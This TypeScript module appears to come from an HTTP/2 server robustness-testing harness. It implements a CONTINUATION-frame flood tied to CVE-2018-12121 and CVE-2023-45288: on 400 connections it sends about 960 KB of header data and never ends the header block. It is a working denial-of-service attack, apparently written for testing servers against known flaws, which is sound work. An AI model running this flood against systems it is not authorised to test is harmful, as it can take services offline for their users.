// Heads that are large, and of which the end does not come.

import * as h2 from '../../harness/frames/h2-frames.ts'
import type { Attack } from '../attack.ts'
import { attackHttp2, head } from '../wire/http2.ts'

/** Frames of 16 KiB; together a little less than --max-header-bytes. */
const FRAMES = 60

export const attack: Attack = {
  reference: 'CVE-2018-12121 (Node), CVE-2023-45288 (Go)',
  does: 'sends 960,000 bytes of a head on each of 400 connections, and not its end',
  who: ['known', 'unknown'],
  answers: [],
  run: (target, signal) => {
    const piece = h2.headerBlock(['x-a', 'y'.repeat(15_990)])
    return attackHttp2(target, signal, { connections: 400, acknowledges: false }, (connection) => {
      let stream = 0
      let sent = 0
      return {
        next() {
          if (sent++ >= FRAMES) return undefined
          if (stream !== 0) return h2.frame(h2.CONTINUATION, 0, stream, piece)
          stream = connection.stream()
          return h2.frame(h2.HEADERS, h2.END_STREAM, stream, head(target, 'GET', '/version'))
        },
      }
    })
  },
}
